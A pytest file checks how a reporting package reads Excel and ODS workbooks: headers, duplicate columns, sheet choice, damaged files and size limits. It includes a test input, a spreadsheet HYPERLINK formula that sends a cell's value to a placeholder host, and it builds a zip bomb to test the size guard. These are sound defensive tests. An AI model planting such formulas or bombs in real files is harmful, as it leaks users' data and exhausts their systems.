"""Workbooks written by openpyxl, xlwt and odfpy are read value by value."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pandas as pd
import pytest
import xlwt
from inputs.formats.opened import table
from snapshot import snapshot

import reporting
from reporting.errors import ConfigError, DataError
from reporting.inputs.formats import catalogue

FRAME = pd.DataFrame(
    {
        "id": ["007", "b", "é"],
        "label": [1, 0, 1],
        "score": [0.1, 1e-300, -3.141592653589793],
        "ok": [True, False, True],
        "day": [dt.date(2026, 1, day) for day in (1, 2, 3)],
        "gap": [None, 0.5, None],
        "error": ["NA", "1,5", "2"],
    }
)
EXPECTED = {
    "id": ["007", "b", "é"],
    "label": ["1", "0", "1"],
    "score": ["0.1", "1e-300", "-3.141592653589793"],
    "ok": ["true", "false", "true"],
    "day": ["2026-01-01", "2026-01-02", "2026-01-03"],
    "gap": [None, "0.5", None],
    "error": ["NA", "1.5", "2"],
}


def by_xlwt(path):
    book = xlwt.Workbook()
    sheet = book.add_sheet("S")
    date = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    for at, name in enumerate(FRAME.columns):
        sheet.write(0, at, name)
        for row, value in enumerate(FRAME[name].astype(object), start=1):
            if not pd.isna(value):
                sheet.write(row, at, value, *([date] if isinstance(value, dt.date) else []))
    book.save(str(path))


@pytest.mark.parametrize("end", ["xlsx", "xls", "ods"])
def test_every_value_is_that_of_the_cell(tmp_path, end):
    path = tmp_path / f"b.{end}"
    if end == "xls":
        by_xlwt(path)
    else:
        FRAME.to_excel(path, index=False, engine={"xlsx": "openpyxl", "ods": "odf"}[end])
    assert table(path) == EXPECTED


def book(path, **tables):
    made = openpyxl.Workbook()
    made.remove(made.active)
    for name, rows in tables.items():
        sheet = made.create_sheet(name)
        for row in rows:
            sheet.append(row)
    made.save(path)
    return made


ROWS = [["label", "score"], [1, 0.5], [0, 0.25]]
READ = {"label": ["1", "0"], "score": ["0.5", "0.25"]}


@pytest.mark.parametrize(
    "above", [[["Results"]], [["Results of March", 2026], []], [[], ["Site:", "A"], [None], ["x"]]]
)
def test_rows_above_the_names_and_blank_ones(tmp_path, above):
    rows = [[*row, "note"][:3] if len(row) == 2 and row[0] == "label" else [*row, "x"] for row in ROWS]
    book(tmp_path / "b.xlsx", S=[*above, *rows, [], [None, None]])
    assert table(tmp_path / "b.xlsx") == READ | {"note": ["x", "x"]}


def test_columns_without_a_name_and_with_one_of_two(tmp_path):
    book(tmp_path / "b.xlsx", S=[["a", None, "b", "b"], [1, None, 2, 2], [3, None, 4, 5]])
    assert table(tmp_path / "b.xlsx") == {"a": ["1", "3"], "b (1)": ["2", "4"], "b (2)": ["2", "5"]}


def test_one_sheet_is_the_table_and_of_several_one_is_named(tmp_path):
    made = book(tmp_path / "b.xlsx", Notes=[["made in March"], ["by hand"]], Data=ROWS, Old=ROWS)
    made["Old"].sheet_state = "hidden"
    made.save(tmp_path / "b.xlsx")
    assert table(tmp_path / "b.xlsx") == READ
    book(tmp_path / "c.xlsx", dev=ROWS, test=[*ROWS, [1, 7]])
    with pytest.raises(DataError) as error:
        table(tmp_path / "c.xlsx")
    snapshot("formats/workbooks_one_sheet_is_the_table_and_of_several_one_is_named", str(error.value))
    assert table(tmp_path / "c.xlsx", sheet="test")["score"] == ["0.5", "0.25", "7"]
    with pytest.raises(DataError, match=r"it has no sheet 'tests' \(found: 'dev', 'test'\)"):
        table(tmp_path / "c.xlsx", sheet="tests")
    read = reporting.read_trials(
        tmp_path / "c.xlsx",
        trials={"layout": "wide", "scores": ["score"], "reading": {"sheet": "dev"}},
        thresholds={"policy": "none"},
    )
    assert sorted(read["score"]) == [0.25, 0.5]


def test_formulas_are_the_values_that_were_saved_and_never_run(tmp_path):
    hostile = '=HYPERLINK("http://x/"&A1,"y")'
    book(tmp_path / "b.xlsx", S=[["label", "score"], [1, "=1+1"], [0, hostile]])
    assert table(tmp_path / "b.xlsx") == {"label": ["1", "0"], "score": [None, None]}
    with pytest.raises(DataError, match="2 of 2 rows missing or NaN"):
        reporting.read_trials(
            tmp_path / "b.xlsx", trials={"layout": "wide", "scores": ["score"]}, thresholds={"policy": "none"}
        )
    # A program that computes them saves their values: as its XML would hold them.
    parts = {}
    with zipfile.ZipFile(tmp_path / "b.xlsx") as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name).replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
            parts[name] = parts[name].replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>")
    with zipfile.ZipFile(tmp_path / "b.xlsx", "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    assert table(tmp_path / "b.xlsx")["score"] == ["2", None]


def test_a_cell_far_from_the_table_and_a_bomb(tmp_path):
    made = book(tmp_path / "b.xlsx", S=ROWS)
    made["S"]["XFD1048576"] = "x"
    made.save(tmp_path / "b.xlsx")
    with pytest.raises(
        DataError, match="a sheet spans 1,048,576 rows and 16,384 columns, more cells than are read"
    ):
        table(tmp_path / "b.xlsx")
    book(tmp_path / "c.xlsx", S=ROWS)
    with zipfile.ZipFile(tmp_path / "c.xlsx", "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/x.bin", bytes(200 * 2**20))
    with pytest.raises(DataError, match="it becomes more than 1,000 times as large"):
        table(tmp_path / "c.xlsx")


@pytest.mark.parametrize("name", ["b.xlsx", "b.ods", "b.xls"])
def test_what_is_no_workbook(tmp_path, name):
    (tmp_path / name).write_text("label,score\n1,0.5\n")
    shown = {"b.xlsx": "excel", "b.ods": "ods", "b.xls": "excel"}[name]
    with pytest.raises(DataError, match=f"{name}: its name shows {shown}, but it holds text; rename it"):
        table(tmp_path / name)
    (tmp_path / name).write_text("<html><table><tr><td>1</td></tr></table></html>")
    with pytest.raises(DataError, match="it holds a page of HTML; export it as CSV"):
        table(tmp_path / name)
    book(tmp_path / "c.xlsx", S=ROWS)
    content = (tmp_path / "c.xlsx").read_bytes()
    (tmp_path / name).write_bytes(
        content[:-200] if name != "b.xls" else b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + content
    )
    with pytest.raises(DataError, match=f"{name}: cannot be read: it is damaged"):
        table(tmp_path / name)


def test_a_thousand_columns(tmp_path):
    names = [f"c{at}" for at in range(1_000)]
    book(tmp_path / "b.xlsx", S=[names, [at / 8 for at in range(1_000)]])
    held = table(tmp_path / "b.xlsx")
    assert list(held) == names
    assert [float(values[0]) for values in held.values()] == [at / 8 for at in range(1_000)]


def test_the_extra_is_named_that_reads_them(tmp_path, monkeypatch):
    def lacks(module, name):
        raise ModuleNotFoundError(module, name="python_calamine")

    book(tmp_path / "b.xlsx", S=ROWS)
    monkeypatch.setattr(catalogue, "attribute", lacks)
    with pytest.raises(ConfigError, match=r"needs python_calamine, .* 'trial-reporting\[excel\]' brings it"):
        table(tmp_path / "b.xlsx")
